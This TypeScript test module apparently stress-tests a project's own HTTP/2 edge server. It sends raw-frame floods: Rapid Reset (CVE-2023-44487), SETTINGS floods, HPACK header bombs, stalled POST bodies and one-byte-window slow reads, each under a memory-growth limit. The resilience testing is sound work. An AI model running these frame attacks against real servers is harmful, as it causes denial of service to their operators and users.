/** Attacks over HTTP/2, frame by frame: floods of frames, heads and uploads of strangers, and responses that nobody reads. */
import { once } from 'node:events';
import type { Socket } from 'node:net';
import { CLIENT_PREFACE } from '../../src/http2/frame/reader.js';
import { address, sending } from '../support/hostile-clients.js';
import { block, END_HEADERS, END_STREAM, type Fields, FRAME, frame, number32, SETTING } from '../support/raw-peer.js';
import { type Attack, type Ground, pause, repeat, type Tally } from './attack.js';

const CONNECTIONS = 20;
const STREAMS = 100;

/** A head of a request for the canary's tunnel; `more` are further fields. */
function head({ world }: Ground, more: Fields = [], path = '/'): Fields {
  const host = new URL(world.url).host;
  return [[':method', 'GET'], [':scheme', 'http'], [':path', path], [':authority', host], ...more];
}

/** Connections of a network of their own, on which the frames were written that `write` makes for each. */
async function connections({ world, ends }: Ground, net: number, write: () => Buffer): Promise<Socket[]> {
  const opened = Array.from({ length: CONNECTIONS }, async (_, at) => {
    const way = { port: world.port, from: address(net, at + 1) };
    const socket = await sending(way, Buffer.concat([CLIENT_PREFACE, frame(FRAME.settings, 0, 0), write()]));
    ends.push(() => socket.destroy());
    return socket;
  });
  return Promise.all(opened);
}

/** Writes the same bytes on each connection until the edge closes it. Throws for one that it lets go on. */
function flood(ground: Ground, net: number, write: () => Buffer, most: number): Promise<Tally> {
  return repeat(ground, async (tally) => {
    for (const socket of await connections(ground, net, () => Buffer.alloc(0))) {
      let sent = 0;
      while (!socket.destroyed && !ground.over.aborted && sent < most) {
        if (!socket.write(write())) await Promise.race([once(socket, 'drain'), once(socket, 'close')]).catch(() => {});
        await pause(ground.over, 0);
        sent += 1;
      }
      if (sent >= most) throw new Error('a flood that goes on');
      tally.add(socket.destroyed ? 'closed' : 'over');
      socket.destroy();
    }
  });
}

/** Requests that are reset at once (CVE-2023-44487). */
function rapidReset(ground: Ground): Promise<Tally> {
  const request = block(head(ground));
  let stream = 1;
  const write = () => {
    const frames = Array.from({ length: STREAMS }, () => {
      const both = [
        frame(FRAME.headers, END_HEADERS | END_STREAM, stream, request),
        frame(FRAME.reset, 0, stream, number32(8)),
      ];
      stream += 2; // upwards on every connection
      return Buffer.concat(both);
    });
    return Buffer.concat(frames);
  };
  return flood(ground, 30, write, 2_000);
}

function settingsFlood(ground: Ground): Promise<Tally> {
  const settings = Buffer.concat([Buffer.from([0, SETTING.windowBytes]), number32(65_535)]);
  const many = Buffer.concat(Array.from({ length: 1_000 }, () => frame(FRAME.settings, 0, 0, settings)));
  return flood(ground, 31, () => many, 1_000);
}

/** Heads that decode to much more than they are: one field in the table, named again and again (RFC 7541 section 7.3). */
function headerBombs(ground: Ground): Promise<Tally> {
  const field = block([['cookie', 'x'.repeat(4_000)]]);
  field[0] = 0x40; // a literal that is indexed
  const bomb = Buffer.concat([block(head(ground)), field, Buffer.alloc(12_000, 0x80 | 62)]);
  return repeat(ground, async (tally) => {
    const opened = await connections(ground, 32, () => {
      const frames = Array.from({ length: STREAMS }, (_, at) =>
        frame(FRAME.headers, END_HEADERS | END_STREAM, 2 * at + 1, bomb),
      );
      return Buffer.concat(frames);
    });
    await pause(ground.over, 1_000);
    for (const socket of opened) {
      tally.add(socket.destroyed ? 'closed' : 'open');
      socket.destroy();
    }
  });
}

/** Forms for the edge's own pages whose bodies never come. */
function unfinishedForms(ground: Ground): Promise<Tally> {
  const { host } = new URL(ground.world.base);
  const form = block([
    [':method', 'POST'],
    [':scheme', 'http'],
    [':path', '/oauth2/token'],
    [':authority', host],
    ['content-type', 'application/x-www-form-urlencoded'],
    ['content-length', '10'],
  ]);
  return repeat(ground, async (tally) => {
    const opened = await connections(ground, 33, () =>
      Buffer.concat(Array.from({ length: STREAMS }, (_, at) => frame(FRAME.headers, END_HEADERS, 2 * at + 1, form))),
    );
    await pause(ground.over, 3_000);
    tally.add('forms', opened.length * STREAMS);
    for (const socket of opened) socket.destroy();
  });
}

/** Downloads of a visitor who opens no window, or a byte at a time. */
function slowReads(ground: Ground): Promise<Tally> {
  const { world, bob } = ground;
  const cookie = bob.jar.header(new URL(world.url));
  const request = block(head(ground, [['cookie', cookie]], '/bytes?n=50000000'));
  const frames = Array.from({ length: STREAMS }, (_, at) =>
    frame(FRAME.headers, END_HEADERS | END_STREAM, 2 * at + 1, request),
  );
  return repeat(ground, async (tally) => {
    const opened = await connections(ground, 34, () => Buffer.concat(frames));
    for (let round = 0; round < 40 && !ground.over.aborted; round++) {
      const step = Array.from({ length: STREAMS }, (_, at) => frame(FRAME.windowUpdate, 0, 2 * at + 1, number32(1)));
      const steps = Buffer.concat([...step, frame(FRAME.windowUpdate, 0, 0, number32(STREAMS))]);
      for (const socket of opened) if (!socket.destroyed) socket.write(steps);
      await pause(ground.over, 250);
    }
    tally.add('closed', opened.filter(({ destroyed }) => destroyed).length);
    tally.add('open', opened.filter(({ destroyed }) => !destroyed).length);
    for (const socket of opened) socket.destroy();
  });
}

export const HTTP2_ATTACKS: readonly Attack[] = [
  { name: 'HTTP/2 streams that are reset', maxGrowthMb: 150, run: rapidReset },
  { name: 'HTTP/2 settings', maxGrowthMb: 150, run: settingsFlood },
  { name: 'HTTP/2 heads', maxGrowthMb: 200, run: headerBombs },
  { name: 'HTTP/2 bodies that do not come', maxGrowthMb: 200, maxKeptMb: 32, run: unfinishedForms },
  // 128 MiB of all, what the links hold beside it, and garbage.
  { name: 'HTTP/2 responses that are not read', maxGrowthMb: 300, maxKeptMb: 32, run: slowReads },
];
